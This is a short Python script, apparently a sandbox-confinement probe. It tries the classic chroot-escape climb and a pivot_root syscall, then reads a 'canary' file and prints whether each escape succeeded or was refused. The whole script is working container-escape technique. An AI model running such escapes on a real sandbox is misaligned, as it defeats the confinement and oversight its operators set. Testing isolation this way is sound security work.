"""The classic: chroot into a directory below while standing above it, then climb. Success: chroot works."""

import ctypes
import json
import os

targets = json.loads(input())
libc = ctypes.CDLL(None, use_errno=True)
PIVOT_ROOT = {"x86_64": 155, "aarch64": 41}[os.uname().machine]
try:
    os.mkdir("below")
except OSError:
    pass
for path in ("below", "/", "."):
    try:
        os.chroot(path)
        print("ESCAPED: chroot", path)
        os.chdir("../" * 40)
        os.chroot(".")
        with open(targets["canary"]) as file:
            print("ESCAPED:", file.read())
    except OSError as error:
        print("refused:", error)
if libc.syscall(PIVOT_ROOT, b".", b".") == 0:
    print("ESCAPED: pivot_root")
print("done")
